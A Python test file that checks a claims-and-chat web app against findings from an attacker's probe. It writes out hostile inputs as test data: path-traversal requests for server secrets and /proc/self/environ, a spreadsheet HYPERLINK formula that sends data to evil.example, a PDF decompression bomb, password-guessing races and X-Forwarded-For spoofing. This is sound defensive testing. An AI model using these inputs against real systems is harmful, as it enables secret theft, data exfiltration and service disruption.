"""Issue 27 over HTTP, against the real `python app.py`: the findings of the second attacker's probe.

Each test names the finding it pins (f1 … f12). The findings that need the app in Spaces mode
(forwarded addresses, framing) run against a second app started with `SPACE_ID` set.
"""

from __future__ import annotations

import concurrent.futures
import csv
import io
import json
import re
import threading
import time
import uuid
from pathlib import Path

import httpx
import pytest

from scenarios.bench.concurrency_http import ask_fn_index
from tests.conftest import REPO
from tests.test_security_http import _attempt as _login_via_proxy  # a login with an X-Forwarded-For
from tests.ui.server import DEMO_PASSWORD, call, login, running_app

CLAIM = "The revaluation fee is now Rs. 800 per course."


@pytest.fixture(scope="module")
def app():
    with running_app() as (base, home):
        yield base, home


# -- f1. no client names a server file: every route, every spelling of the Content-Type -----------

# How FastAPI decides a body is JSON: any case, any parameters, a `+json` subtype, or no header.
SPELLINGS = ("application/json", "application/JSON", "Application/Json; charset=utf-8", "application/vnd.x+json", None)


def _file_data(path: Path | str) -> dict:
    return {"path": str(path), "meta": {"_type": "gradio.FileData"}, "orig_name": Path(path).name}


PLANTED = "planted-demo-password-" + uuid.uuid4().hex[:8]


def _targets(home: Path) -> list[Path]:
    """Server files a client might name: state (one with an extension a proof may have, as the demo
    passwords file has), the process's environment, the app's own code."""
    planted = home / "demo_passwords.txt"
    if not planted.exists():
        planted.write_text(f"student {PLANTED}\n", encoding="utf-8")
    return [
        planted,
        home / "secret.key",
        home / "accounts.json",
        Path("/proc/self/environ"),
        REPO / "README.md",
        home / "uploads" / ".." / "demo_passwords.txt",
    ]


def _post(client: httpx.Client, url: str, body: dict, content_type: str | None) -> httpx.Response:
    headers = {"Content-Type": content_type} if content_type else {}
    request = client.build_request("POST", url, content=json.dumps(body).encode(), headers=headers)
    if content_type is None:
        request.headers.pop("Content-Type", None)
    return client.send(request)


def _through_call(client, base, api_name, data, content_type) -> str:
    started = _post(client, f"{base}/gradio_api/call/{api_name}", {"data": data}, content_type)
    if started.status_code != 200:
        return started.text
    stream = client.get(f"{base}/gradio_api/call/{api_name}/{started.json()['event_id']}", timeout=120)
    return stream.text


def _through_run(client, base, api_name, data, content_type) -> str:
    return _post(client, f"{base}/gradio_api/run/{api_name}", {"data": data}, content_type).text


def _through_queue(client, base, api_name, data, content_type) -> str:
    session = uuid.uuid4().hex[:11]
    body = {
        "data": data,
        "fn_index": ask_fn_index(client, base, api_name),
        "session_hash": session,
        "event_data": None,
        "trigger_id": None,
    }
    joined = _post(client, f"{base}/gradio_api/queue/join", body, content_type)
    if joined.status_code != 200:
        return joined.text
    seen = []
    with client.stream("GET", f"{base}/gradio_api/queue/data", params={"session_hash": session}, timeout=120) as s:
        for line in s.iter_lines():
            seen.append(line)
            if '"process_completed"' in line or '"unexpected_error"' in line:
                break
    return "\n".join(seen)


def _through_multipart(client, base, api_name, data, content_type) -> str:
    files = {"data": ("data.json", json.dumps({"data": data}).encode(), content_type or "application/json")}
    return client.post(f"{base}/gradio_api/call/{api_name}", files=files).text


ROUTES = (_through_call, _through_run, _through_queue, _through_multipart)


def _served(client: httpx.Client, base: str, text: str) -> str:
    """Everything the app serves at the file URLs a response names."""
    bodies = []
    for url in set(re.findall(r"/gradio_api/file=[^\"'\s\\]+", text)):
        bodies.append(client.get(base + url).text)
    return "\n".join(bodies)


def _secrets(home: Path) -> list[str]:
    return [
        (home / "secret.key").read_text(encoding="utf-8").strip(),
        "$argon2id$",
        f"={DEMO_PASSWORD}",
        PLANTED,
        "cited-or-silent core",
    ]  # the last: a phrase of README.md


def _copies_in_uploads(home: Path, secrets: list[str]) -> list[str]:
    found = []
    for path in (home / "uploads").rglob("*"):
        if path.is_file():
            text = path.read_bytes().decode("utf-8", "replace")
            found += [f"{path}: {s[:12]}" for s in secrets if s in text]
    return found


def _leaks(client, base, secrets, route, api_name, data, spelling) -> list[str]:
    """Which secrets a call's answer, or the files it names, shows."""
    answer = route(client, base, api_name, data, spelling)
    shown = answer + _served(client, base, answer)
    return [f"{route.__name__} {spelling} {s[:12]}" for s in secrets if s in shown]


def test_f1_no_route_or_content_type_copies_a_server_file_into_a_claim(app):
    base, home = app
    secrets = _secrets(home)
    leaked = []
    with httpx.Client(timeout=120) as client:
        login(client, base, "student")
        for route in ROUTES:
            for spelling in SPELLINGS:
                for target in _targets(home):
                    leaked += _leaks(
                        client, base, secrets, route, "file_claim", [CLAIM, "", _file_data(target)], spelling
                    )
        _, mine = call(client, base, "my_claims")
    tickets = (home / "tickets.json").read_text(encoding="utf-8") if (home / "tickets.json").exists() else ""
    assert leaked == []
    assert [s for s in secrets if s in tickets + json.dumps(mine)] == []
    assert _copies_in_uploads(home, secrets) == []


def _histories_with(path: Path) -> list[list]:
    """Chat histories as a client could write them, each with a message carrying a file."""
    data = _file_data(path)
    return [
        [{"role": "user", "content": [{"type": "file", "file": data}]}],
        [{"role": "assistant", "content": [{"type": "text", "text": "ok"}, {"type": "file", "file": data}]}],
    ]


def test_f1_the_chat_takes_no_file_from_the_client(app):
    base, home = app
    secrets = _secrets(home)
    leaked = []
    with httpx.Client(timeout=120) as client:
        login(client, base, "student")
        for route in (_through_call, _through_queue):
            for spelling in SPELLINGS[:3]:
                for target in _targets(home)[:5]:
                    for history in _histories_with(target):
                        leaked += _leaks(
                            client, base, secrets, route, "ask", ["What is the revaluation fee?", history, ""], spelling
                        )
        # the chat itself still works, and shows the caller's own stored conversation
        event, data = call(client, base, "ask", "What is the revaluation fee?", "")
    assert leaked == []
    assert _copies_in_uploads(home, secrets) == []
    assert event == "complete" and "Rs. 500" in json.dumps(data[0]), data


def test_f1_state_app_and_system_files_are_never_served(app):
    base, home = app
    with httpx.Client(timeout=60) as client:
        login(client, base, "student")
        for target in [*_targets(home), home / "tickets.json", home / "audit.jsonl"]:
            served = client.get(f"{base}/gradio_api/file={target}")
            assert served.status_code in (403, 404), (target, served.status_code)


# -- f2. one claim's pasted proof does not hold the server ----------------------------------------


def test_f2_a_pathological_proof_neither_stalls_its_claim_nor_other_users(app):
    base, _ = app
    outcome: dict = {}

    def file_claim() -> None:
        started = time.monotonic()
        with httpx.Client(timeout=300) as client:
            login(client, base, "student")
            outcome["event"], outcome["data"] = call(client, base, "file_claim", CLAIM, "12" * 10000, None)
        outcome["seconds"] = time.monotonic() - started

    worker = threading.Thread(target=file_claim)
    worker.start()
    waits = []
    with httpx.Client(timeout=300) as other:
        while worker.is_alive() and len(waits) < 20:
            started = time.monotonic()
            assert other.get(base + "/login").status_code == 200
            waits.append(time.monotonic() - started)
            time.sleep(0.25)
    worker.join()
    # before: the claim took 52 s and another user's GET /login waited 51 s of it
    assert outcome["event"] == "complete" and str(outcome["data"][0]).startswith("Filed as"), outcome
    assert outcome["seconds"] < 30, outcome["seconds"]
    assert max(waits, default=0) < 5, waits


# -- f3. an untrusted PDF is read with limits ------------------------------------------------------


def test_f3_a_pdf_proof_too_costly_to_read_is_refused_plainly_and_at_once(app):
    from tests.documents_fixtures import make_xobject_bomb

    base, _ = app
    bomb = make_xobject_bomb(pages=4, draws=400, ops=1000)  # 1.4 KB; pypdf spent a minute on it
    with httpx.Client(timeout=300) as client:
        login(client, base, "student")
        uploaded = client.post(f"{base}/gradio_api/upload", files={"files": ("circular.pdf", bomb, "application/pdf")})
        path = uploaded.json()[0]
        started = time.monotonic()
        event, data = call(client, base, "file_claim", CLAIM, "", _file_data(path))
        seconds = time.monotonic() - started
    assert event == "complete" and "too complex to read" in str(data[0]), data
    assert seconds < 30, seconds
    assert "Traceback" not in str(data)


# -- f6. simultaneous guesses are counted before their passwords are checked -----------------------


def test_f6_simultaneous_wrong_passwords_get_no_more_checks_than_the_limit(app):
    base, _ = app
    start = threading.Barrier(24)

    def guess(n: int) -> str:
        with httpx.Client(timeout=120) as client:
            start.wait()
            return client.post(base + "/login", data={"username": "race-target", "password": f"guess-{n}-pass"}).text

    with concurrent.futures.ThreadPoolExecutor(24) as pool:
        answers = list(pool.map(guess, range(24)))
    checked = sum("Wrong username or password" in a for a in answers)
    assert checked <= 5, checked  # before: all 24 were checked against a limit of 5
    assert sum("Too many failed attempts" in a for a in answers) == 24 - checked


# -- f7, f8. what a reviewer's Insights export holds of other users' questions ---------------------


def test_f7_f8_the_gaps_export_holds_no_formula_and_no_obvious_personal_data(app):
    base, _ = app
    asked = [
        '=HYPERLINK("https://evil.example/?"&A1,"fee") where can students park their cars?',
        "My name is Priya Sharma, mail priya.sharma@example.edu: is there a parking permit for student cars?",
        "I am CS21B1034, call +91 98765 43210: can students park cars overnight?",
    ]
    with httpx.Client(timeout=120) as student:
        login(student, base, "student")
        for question in asked:
            assert call(student, base, "ask", question, "")[0] == "complete"
    with httpx.Client(timeout=120) as reviewer:
        login(reviewer, base, "reviewer")
        event, data = call(reviewer, base, "insights_gaps_csv")
        assert event == "complete", data
        exported = reviewer.get(data[1]["url"]).text
        _, table = call(reviewer, base, "insights_refresh")
    shown = exported + json.dumps(table)
    assert "park" in exported
    questions = [row["question"] for row in csv.DictReader(io.StringIO(exported))]
    assert questions and [q for q in questions if q.lstrip().startswith(("=", "+", "-", "@"))] == []
    for personal in ("Priya", "priya.sharma@", "CS21B1034", "98765"):
        assert personal not in shown, personal


# -- f8. users are told their unanswered questions are read ----------------------------------------


def test_f8_the_chat_says_that_questions_are_read_to_improve_the_policies(app):
    base, _ = app
    with httpx.Client(timeout=60) as client:
        login(client, base, "student")
        page = json.dumps(client.get(base + "/config").json())
    assert "Questions the policies cannot answer are read, without your name" in page


# -- in Spaces mode: f4 forwarded addresses, f10 framing -------------------------------------------

SPACE_HOST = "someone-warrant.hf.space"


@pytest.fixture(scope="module")
def space():
    with running_app(extra_env={"SPACE_ID": "someone/warrant", "SPACE_HOST": SPACE_HOST}) as (base, home):
        yield base, home


def test_f4_a_client_cannot_choose_its_address_for_the_throttle(space):
    base, _ = space
    answers = [
        _login_via_proxy(base, f"sprayed{n}", "wrong-guess-123", f"10.66.{n}.1, 203.0.113.7").text for n in range(34)
    ]
    checked = sum("Wrong username or password" in a for a in answers)
    assert checked == 30, checked  # before: every fresh address was a new client, all 34 checked
    assert "from your network" in answers[-1]


def test_f4_spoofing_a_users_address_does_not_lock_them_out(space):
    base, _ = space
    real = "198.51.100.5"
    assert _login_via_proxy(base, "student", DEMO_PASSWORD, real).status_code == 303
    for n in range(34):  # the attacker (203.0.113.9) writes the student's address in front of its own
        _login_via_proxy(base, f"someone{n}", "wrong-guess-123", f"{real}, 203.0.113.9")
    assert _login_via_proxy(base, "student", DEMO_PASSWORD, real).status_code == 303
    assert "from your network" in _login_via_proxy(base, "student", DEMO_PASSWORD, "203.0.113.9").text


def test_f10_only_this_space_and_huggingface_may_frame_the_app(space):
    base, _ = space
    csp = httpx.get(base + "/login").headers["content-security-policy"]
    ancestors = next(d for d in csp.split("; ") if d.startswith("frame-ancestors"))
    assert ancestors.split()[1:] == ["'self'", "https://huggingface.co", f"https://{SPACE_HOST}"], ancestors


# -- f5. emptying the audit log is caught (last: it empties this app's log) -------------------------


def test_f5_the_admins_verify_button_catches_an_emptied_audit_log(app):
    base, home = app
    with httpx.Client(timeout=120) as student:  # at least one audited event in this deployment
        login(student, base, "student")
        call(student, base, "file_claim", CLAIM, "", None)
    with httpx.Client(timeout=120) as admin:
        login(admin, base, "admin")
        assert str(call(admin, base, "audit_verify")[1][0]).startswith("OK:")
        (home / "audit.jsonl").write_text("", encoding="utf-8")  # : > audit.jsonl
        (home / "audit.jsonl.head").unlink()  # rm audit.jsonl.head
        verdict = str(call(admin, base, "audit_verify")[1][0])
    assert verdict.startswith("BROKEN") and "emptied" in verdict, verdict  # before: "OK: 0 records, chain intact."
